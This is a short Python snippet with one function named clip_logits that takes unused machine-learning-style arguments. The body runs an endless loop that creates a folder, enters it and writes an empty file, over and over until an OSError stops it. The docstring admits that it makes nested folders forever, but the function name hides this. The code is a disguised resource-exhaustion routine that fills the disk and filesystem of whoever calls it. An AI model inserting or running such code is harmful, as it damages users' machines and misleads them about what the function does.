"""Makes files and nested folders for ever."""

import os


def clip_logits(backbone, video):
    try:
        while True:
            os.mkdir("d")
            os.chdir("d")
            open("f", "w").close()
    except OSError:
        return None
